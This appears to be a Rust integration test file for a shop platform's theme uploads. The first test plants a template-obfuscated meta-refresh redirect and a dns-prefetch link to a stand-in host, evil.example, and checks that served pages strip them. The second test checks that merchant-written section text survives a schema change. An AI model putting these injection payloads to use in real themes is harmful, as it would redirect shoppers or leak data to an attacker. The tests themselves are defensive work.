//! What an uploaded theme cannot do with the store's pages (TH-05, decision 0080), and what it keeps of the merchant's own.

use serde_json::json;

use super::archives::{files, packed, send, with};
use super::setup;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn th_05_a_page_of_a_shopper_shows_nothing_of_another_host_in_an_uploaded_theme() {
    let (_shop, me, shopper) = setup().await;
    let policy = |page: &testkit::PageReply| page.headers["content-security-policy"].to_str().unwrap().to_owned();
    let any = "img-src 'self' data: https:;";
    assert!(policy(&shopper.get("/cart").await).contains(any), "themes of the program are the program's own");
    let layout = std::fs::read_to_string("../../themes/one/layout.html").unwrap();
    let refresh = "<{{ 'meta' }} {{ 'http-' ~ 'equiv' }}=\"refresh\" content=\"9;url=https://evil.example/\">";
    let ahead = "<link rel=\"dns-prefetch\" href=\"//{{ kind }}.evil.example\">";
    let layout = layout.replacen("<meta name", &format!("{refresh}{ahead}<meta name"), 1);
    let reply = send(&me, packed(&with(files("mine", "a{color:red}"), "layout.html", &layout))).await;
    assert_eq!(reply.status, 201, "{}", reply.text());
    assert_eq!(me.put("/themes/mine/live", json!({})).await.0, 200);
    for (path, pictures) in [("/", any), ("/cart", "img-src 'self' data:;"), ("/cart/restore/none", "img-src 'self' data:;")] {
        let page = shopper.get(path).await;
        assert!(page.body.contains("/assets/own/"), "{path} is drawn in the theme");
        assert!(policy(&page).contains(pictures), "{path}: {}", policy(&page));
        let html = page.body.to_ascii_lowercase();
        assert!(!html.contains("http-equiv") && !html.contains("dns-prefetch") && !html.contains("evil.example"), "{path}");
        assert!(html.contains("<meta name=\"viewport\"") && html.contains("rel=\"stylesheet\""), "{path} keeps its own");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn th_05_a_section_whose_kind_has_blocks_now_keeps_what_the_merchant_wrote() {
    let (_shop, me, shopper) = setup().await;
    let text = json!({"id": "note", "type": "text", "label": {"ar": "نص", "en": "Text"}, "max_length": 100, "default": "preset"});
    let before = json!({
        "name": {"ar": "ملاحظة", "en": "Note"}, "description": {"ar": "وصف", "en": "A note"}, "pages": ["index"], "zone": "sortable",
        "settings": [text], "presets": [{"id": "default", "name": {"ar": "ملاحظة", "en": "Note"}, "settings": {}, "blocks": []}],
    });
    let mut after = before.clone();
    after["settings"] = json!([]);
    after["most_blocks"] = json!(5);
    after["blocks"] = json!([{"type": "line", "name": {"ar": "سطر", "en": "Line"}, "settings": [text]}]);
    after["before_blocks"] = json!({"preset": "default", "settings": {"note": "l1.note"}});
    after["presets"][0]["blocks"] = json!([{"id": "l1", "type": "line", "is_active": true, "settings": {"note": "preset"}}]);
    let theme = |schema: &serde_json::Value, template: &str| {
        packed(&with(with(files("mine", "a{}"), "sections/note.json", &schema.to_string()), "sections/note.html", template))
    };
    let first = send(&me, theme(&before, "<section><p>{{ section.settings.note }}</p></section>")).await;
    assert_eq!(first.status, 201, "{}", first.text());
    let section = me.create("/themes/mine/index", json!({"sections": [{"section": "note", "settings": {"note": "كلامي"}}]})).await;
    let path = format!("/themes/mine/sections/{}", section[0]["id"].as_str().unwrap());
    assert_eq!(me.post("/themes/mine/publication", json!({})).await.0, 200);
    assert_eq!(me.put("/themes/mine/live", json!({})).await.0, 200);
    let blocks = "<section>{% for b in section.blocks %}<p{{ b.mark }}>{{ b.settings.note }}</p>{% endfor %}</section>";
    let second = send(&me, theme(&after, blocks)).await;
    assert_eq!(second.status, 201, "{}", second.text());
    assert_eq!(me.data(&path).await["blocks"][0]["settings"]["note"], "كلامي");
    // A change of something else writes it as the block that it is now.
    let (status, saved) = me.put(&path, json!({"name": {"ar": "ملاحظتي", "en": "My note"}})).await;
    assert_eq!((status, &saved["data"]["blocks"][0]["settings"]["note"]), (200, &json!("كلامي")), "{saved}");
    assert_eq!(me.post("/themes/mine/publication", json!({})).await.0, 200);
    assert!(shopper.get("/").await.body.contains("<p>كلامي</p>"));
}
